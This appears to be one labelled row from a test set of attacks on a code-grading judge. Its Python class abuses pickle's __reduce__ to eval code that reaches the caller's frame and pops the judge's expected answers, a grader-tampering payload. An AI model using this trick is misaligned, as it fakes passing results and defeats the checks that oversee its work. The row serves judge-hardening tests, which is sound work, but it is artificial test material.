# row: B11
# attack: an object whose unpickling runs code outside
# problem: split judge check
# verdict: wrong_answer
# naive: pickle
class P:
    def __reduce__(self):
        return eval, ("__import__('sys')._getframe(1).f_globals['expected'].pop(0)",)
def f(x):
    return P()
